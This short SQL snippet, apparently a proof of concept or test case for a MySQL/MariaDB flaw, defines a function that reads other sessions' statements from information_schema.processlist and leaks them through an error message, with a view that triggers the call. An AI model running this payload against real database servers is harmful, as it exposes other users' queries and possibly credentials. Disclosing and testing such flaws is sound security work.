-- own account: invalid; login of the target: refused
CREATE FUNCTION f() RETURNS int DETERMINISTIC BEGIN DECLARE m text; SET m = left((SELECT group_concat(info) FROM Information_Schema . processlist), 60); SIGNAL SQLSTATE '45000' SET MESSAGE_TEXT = m; RETURN 1; END;
CREATE VIEW v AS SELECT format(1, f()) AS y;
